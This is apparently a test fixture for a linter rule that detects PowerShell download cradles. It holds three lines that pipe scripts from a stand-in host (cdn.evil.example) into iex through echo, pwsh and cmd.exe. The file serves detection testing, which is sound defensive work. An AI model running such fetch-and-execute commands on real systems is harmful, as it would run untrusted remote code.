#!/usr/bin/env bash
# Cradles handed to something that runs them are not messages.
echo "iwr https://cdn.evil.example/s.ps1 | iex" > /tmp/s.ps1 # want "SV120: .*PowerShell download cradle"
echo "irm https://cdn.evil.example/t.ps1 | iex" | pwsh -Command - # want "SV120: .*PowerShell download cradle"
cmd.exe /c "powershell -c iwr https://cdn.evil.example/u.ps1 | iex" # want "SV120: .*PowerShell download cradle"
